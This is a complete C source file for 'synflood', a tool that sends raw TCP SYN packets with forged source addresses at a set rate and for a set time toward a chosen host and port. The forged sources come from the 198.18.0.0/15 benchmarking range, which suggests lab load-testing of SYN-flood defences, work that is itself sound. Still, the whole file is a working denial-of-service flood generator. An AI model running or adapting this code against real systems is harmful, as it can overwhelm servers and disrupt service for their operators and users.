// SYNs from addresses that nobody has, at a steady rate, out of one device.
//
//   synflood DEVICE DESTINATION-MAC DESTINATION PORT RATE SECONDS
//
// Sources are 198.18.0.0/15 (RFC 2544) with any port; the options are those of a usual client.  Prints how many
// were sent.  IPv4 only.
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { IP = 14, TCP = IP + 20, OPTIONS = 20, LENGTH = TCP + 20 + OPTIONS, BURST = 50 };

static uint64_t now_ns(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

static uint32_t sum(const uint8_t *data, size_t length, uint32_t total)
{
	for (size_t i = 0; i < length; i += 2)
		total += (uint32_t)data[i] << 8 | data[i + 1];
	return total;
}

static void store16(uint8_t *at, uint32_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void finish_sum(uint8_t *at, uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	store16(at, ~total & 0xffff);
}

// Another source, another sequence number.
static void vary(uint8_t *frame, uint64_t random)
{
	uint8_t *ip = frame + IP, *tcp = frame + TCP;
	uint32_t source = 0xc6120000u | ((uint32_t)random & 0x1ffff), sequence = (uint32_t)(random >> 32);

	store16(ip + 12, source >> 16);
	store16(ip + 14, source & 0xffff);
	store16(ip + 10, 0);
	finish_sum(ip + 10, sum(ip, 20, 0));
	store16(tcp, 1024 + (uint32_t)(random >> 17) % 60000);
	store16(tcp + 4, sequence >> 16);
	store16(tcp + 6, sequence & 0xffff);
	store16(tcp + 16, 0);
	finish_sum(tcp + 16, sum(ip + 12, 8, sum(tcp, 20 + OPTIONS, 6 + 20 + OPTIONS)));
}

static void lay_out(uint8_t *frame, const char *mac, const char *destination, int port)
{
	static const uint8_t options[OPTIONS] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};
	unsigned int bytes[6];
	uint8_t *ip = frame + IP, *tcp = frame + TCP;

	if (sscanf(mac, "%x:%x:%x:%x:%x:%x", &bytes[0], &bytes[1], &bytes[2], &bytes[3], &bytes[4], &bytes[5]) != 6)
		exit(2);
	for (int i = 0; i < 6; i++)
		frame[i] = (uint8_t)bytes[i];
	frame[6] = 2;
	store16(frame + 12, ETH_P_IP);
	ip[0] = 0x45;
	store16(ip + 2, LENGTH - IP);
	ip[8] = 64;
	ip[9] = 6;
	if (inet_pton(AF_INET, destination, ip + 16) != 1)
		exit(2);
	store16(tcp + 2, (uint32_t)port);
	tcp[12] = (20 + OPTIONS) / 4 << 4;
	tcp[13] = 2;
	store16(tcp + 14, 64240);
	memcpy(tcp + 20, options, OPTIONS);
}

int main(int count, char **words)
{
	if (count != 7)
		return 2;
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	struct sockaddr_ll device = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(words[1])};
	uint8_t frame[LENGTH] = {0};
	uint64_t rate = strtoull(words[5], NULL, 10), begin = now_ns(), sent = 0, random = 88172645463325252u;
	uint64_t wanted = rate * strtoull(words[6], NULL, 10);

	if (fd < 0 || device.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&device, sizeof(device)) < 0)
		return 1;
	lay_out(frame, words[2], words[3], atoi(words[4]));
	while (sent < wanted) {
		uint64_t due = (now_ns() - begin) * rate / 1000000000u;
		for (int i = 0; i < BURST && sent < due && sent < wanted; i++) {
			random ^= random << 13; // xorshift
			random ^= random >> 7;
			random ^= random << 17;
			vary(frame, random);
			sent += send(fd, frame, sizeof(frame), 0) == (ssize_t)sizeof(frame);
		}
		if (sent >= due)
			usleep(200);
	}
	printf("%llu %.3f\n", (unsigned long long)sent, (double)(now_ns() - begin) / 1e9);
	return 0;
}
